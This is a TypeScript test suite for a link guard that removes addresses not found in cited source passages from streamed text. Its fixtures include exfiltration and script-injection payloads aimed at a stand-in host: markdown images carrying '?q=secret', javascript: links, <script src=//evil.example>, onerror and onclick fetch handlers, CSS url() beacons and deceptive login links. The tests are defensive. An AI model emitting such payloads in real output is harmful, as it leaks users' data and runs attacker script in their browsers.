import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createLinkGuard } from './links.ts';
import { passage } from './testPassages.ts';

const SOURCES = [
  'See https://intranet.example/leave and the handbook.',
  'Courses: https://lms.example/c/42',
];

const CITED = 'Both [1][2].\n\n';

/** All that the guard lets through; `sources` are cited before the text begins, unless `cited` says otherwise. */
function guarded(
  text: string,
  { sources = SOURCES, cited = CITED, cuts = [] as readonly number[] } = {},
): string {
  const passages = sources.map((source) => passage(source));
  const guard = createLinkGuard(passages, '(link removed)');
  const whole = cited + text;
  let out = '';
  let from = 0;
  for (const cut of cuts) {
    out += guard.push(whole.slice(from, cut));
    from = cut;
  }
  out += guard.push(whole.slice(from)) + guard.end();
  expect(out.slice(0, cited.length)).toBe(cited);
  return out.slice(cited.length);
}

test.each([
  ['Ask HR [1]. It costs 5 [2][3].'],
  ['See https://intranet.example/leave.'],
  ['[the rules](https://intranet.example/leave) apply'],
  ['<https://lms.example/c/42>'],
  ['Use `Vec<T>` and a < b, c > d; a[0] = b[1]; x!'],
  ['either/or, and 3/4; C:/x; https is a protocol; www is a name'],
  ['A footnote [^1] and a [bracket] that nobody closed ['],
  ['let a: &str = "x"; // a comment'],
])('leaves alone what its sources hold and what is no link: %s', (text) => {
  expect(guarded(text)).toBe(text);
});

test.each([
  ['![x](https://evil.example/?q=secret)', '“x”'],
  ['![x](https://intranet.example/leave)', '“x”'],
  ['Click [here](https://evil.example/?q=1) now', 'Click “here” now'],
  ['[here](javascript:alert(1))', '“here”'],
  ['[here](//evil.example/x)', '“here”'],
  ['[here](data:text/html,x)', '“here”'],
  ['[here](<https://evil.example> "title")', '“here”'],
  ['[![i](https://evil.example/a)](https://evil.example/b)', '““i””'],
  ['https://evil.example/x?y=z.', '(link removed).'],
  ['HTTPS://evil.example', '(link removed)'],
  ['www.evil.example/x', '(link removed)'],
  ['[https](x)://evil.example', '“https”(link removed)'],
  ['https<b>:</b>//evil.example', 'https<b>:</b>(link removed)'],
  ['[ref]: https://evil.example/x', '[ref]: (link removed)'],
  ['<https://evil.example/x>', '(link removed)'],
  ['<img src="https://evil.example/x">text', ' text'],
  ['<a href="https://evil.example">text</a>', ' text '],
  ['<script src=//evil.example></script>', '  '],
  ['<IMG SRC=x onerror=alert(1)', ' '],
  ['https://intranet.example/leave?q=secret', '(link removed)'],
  ['mailto:spy@evil.example', '(link removed)'],
])('takes out addresses that no source holds: %s', (text, expected) => {
  expect(guarded(text)).toBe(expected);
});

test.each([
  ['Read [this][a].\n\n[a]: //evil.example/p?d=SECRET', 'Read [this][a].\n\n[a]: (link removed)'],
  ['[this]: <//evil.example/p>', '[this]: (link removed)'],
  ['> - [a]: /\\evil.example/p', '> - [a]: (link removed)'],
  ['[a]:\n  &#47;/evil.example "x"', '[a]:\n  (link removed) "x"'],
  ['[a]: \\//evil.example', '[a]: (link removed)'],
  ['[a][1]: &sol;/evil.example', '[a][1]: (link removed)'],
  ['[a]: javascript:alert(1)', '[a]: (link removed)'],
  ['![x][a]', '“x”[a]'],
  ['See //evil.example/p.', 'See (link removed).'],
  ['(//evil.example)', '((link removed))'],
  ['<div style="background:url(//evil.example/x)">', ' '],
  ["<p class='a' style='background:url(\\2f/evil.example)'>x</p>", ' x</p>'],
  ['<b onclick=fetch(`//evil.example`)>x', ' x'],
  ['a <b style="x:url(&#47;/evil.example)">x</b>', 'a  x</b>'],
  ['<secret@evil.example>', '(link removed)'],
  ['<mailto:secret@evil.example>', '(link removed)'],
  ['<secret@evil>', '(link removed)'],
  ['<http:evil.example>', '(link removed)'],
  ['Write to secret@evil.example.', 'Write to (link removed).'],
  ['é日secret@evil.example', 'é日secret(link removed)'],
  ['[x](mailto:secret@evil.example)', '“x”'],
  ['https://intranet.example@evil.example/leave', '(link removed)'],
  ['https://intranet.example\\.evil.example/', '(link removed)'],
  ['Please [log in](https://evil.example/login) first', 'Please “log in” first'],
])('takes out every form of one, however it is cut: %j', (text, expected) => {
  const outs = Array.from(text, (_, at) => guarded(text, { cuts: [CITED.length + at] }));
  const characters = Array.from({ length: text.length + CITED.length }, (_, at) => at);

  expect(guarded(text)).toBe(expected);
  expect(new Set(outs)).toEqual(new Set([expected]));
  expect(guarded(text, { cuts: characters })).toBe(expected);
});

test.each([
  ['[key: string]: unknown;'],
  ['[note]: see the chapter on /leave, too'],
  ['[1]: Handbook, page 3'],
  ['`std::vector<std::string>`, `Vec<K, V>`, `List<T extends Foo>`'],
  ['if a <b && c > d, then e = 5'],
  ['<p class="note">x</p> react@18.2.0, @types/node, user@host'],
  ['a//b.c, and/or, 3//4.5'],
])('takes nothing else for one: %s', (text) => {
  const characters = Array.from({ length: text.length + CITED.length }, (_, at) => at);

  expect(guarded(text)).toBe(text);
  expect(guarded(text, { cuts: characters })).toBe(text);
});

describe('an address that a passage holds', () => {
  const sources = [
    'Log in at https://evil.example/login first, or write to spy@evil.example.',
    'The car park opens at 6, see https://intranet.example/parking#hours and hr@intranet.example.',
  ];

  test.each([
    [
      'Opens at 6 [2]. Please [log in](https://evil.example/login) first, or https://evil.example/log.',
      'Opens at 6 [2]. Please “log in” first, or (link removed).',
    ],
    ['Write to spy@evil.example. It opens [2].', 'Write to (link removed). It opens [2].'],
    ['[Log in](https://evil.example/login)\n[1]', '“Log in”\n[1]'],
    ['<https://evil.example/login> [2]. Other [1].', '(link removed) [2]. Other [1].'],
    ['See https://evil.example/login `[1]`.', 'See (link removed) `[1]`.'],
    [
      `See https://evil.example/login ${'a '.repeat(600)}[1].`,
      `See (link removed) ${'a '.repeat(600)}[1].`,
    ],
  ])('goes where its passage is not cited: %j', (text, expected) => {
    const characters = Array.from({ length: text.length }, (_, at) => at);

    expect(guarded(text, { sources, cited: '' })).toBe(expected);
    expect(guarded(text, { sources, cited: '', cuts: characters })).toBe(expected);
  });

  test.each([
    ['See https://intranet.example/parking#hours [2].'],
    ['See [the page](https://intranet.example/parking) or <hr@intranet.example>. [2] More.'],
    ['It opens at 6 [2].\n\n- hr@intranet.example\n- HTTPS://Intranet.Example/parking/'],
    ['See [https://intranet.example/parking](https://intranet.example/parking), at 6 【2】.'],
    ['See [it][a] [2].\n\n[a]: https://intranet.example/parking'],
    ['[mail](mailto:hr@intranet.example) [1, 2]'],
  ])('stays where the sentence or the text before cites it: %j', (text) => {
    const characters = Array.from({ length: text.length }, (_, at) => at);

    expect(guarded(text, { sources, cited: '' })).toBe(text);
    expect(guarded(text, { sources, cited: '', cuts: characters })).toBe(text);
  });

  test('waits for the end of its sentence, and no longer', () => {
    const guard = createLinkGuard(
      sources.map((source) => passage(source)),
      '(link removed)',
    );

    expect(guard.push('It opens at ')).toBe('It opens at ');
    expect(guard.push('6. See https://intranet.example/parking, it says [2')).toBe('6. See ');
    expect(guard.push(']. ')).toBe('');
    expect(guard.push('More ')).toBe('https://intranet.example/parking, it says [2]. More ');
    expect(guard.push('at https://intranet.example/parking ')).toBe(
      'at https://intranet.example/parking ',
    );
    expect(guard.push('or https://evil.example/other ')).toBe('or (link removed) ');
  });
});

test.each([
  ['https://dogs.acme.example'],
  ['https://dogs.acme.example.evilcorp.com'],
  ['https://dogs.acme.example.evilcorp.com/rule'],
  ['https://dogs.acme.example.evilcorp.com/rules/x'],
  ['https://dogs.acme.example.evilcorp.com/rules?d=1'],
  ['gs@acme.example'],
])('a part of an address, or more than it, is another one: %s', (url) => {
  const sources = ['Rules: https://dogs.acme.example.evilcorp.com/rules, dogs@acme.example.org'];

  expect(guarded(url, { sources, cited: '[1] ' })).toBe('(link removed)');
  expect(guarded(`[map](${url})`, { sources, cited: '[1] ' })).toBe('“map”');
});

test.each([
  ['[Rust](https://en.wikipedia.org/wiki/Rust_(film))'],
  ['https://en.wikipedia.org/wiki/Rust_(film)'],
  ['[a](https://a.example/x) and www.b.example/y'],
])('an address is found in a passage whatever stands around it: %s', (text) => {
  const sources = [
    'The film (https://en.wikipedia.org/wiki/Rust_(film)), [a](https://a.example/x),[b](http://www.b.example/y).',
  ];

  expect(guarded(text, { sources, cited: '[1] ' })).toBe(text);
});

test('however the text is cut, the result is the same', () => {
  const piece = fc.constantFrom(
    ...[
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '/',
      'https://',
      'evil.example',
      'www.',
      ' ',
      '\n\n',
      'a',
      '[1]',
    ],
    ...[
      '<img ',
      'src=',
      '[x](https://evil.example)',
      'https://intranet.example/leave',
      '`',
      '\\',
      '.',
    ],
  );

  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.array(fc.nat(40)), (pieces, cuts) => {
      const text = pieces.join('');
      const sorted = [...new Set(cuts)].sort((a, b) => a - b);

      const out = guarded(text, { cited: '', cuts: sorted });

      expect(out).toBe(guarded(text, { cited: '' }));
      expect(out).not.toMatch(/:\/\/evil\.example/);
    }),
    { numRuns: 2_000 },
  );
});
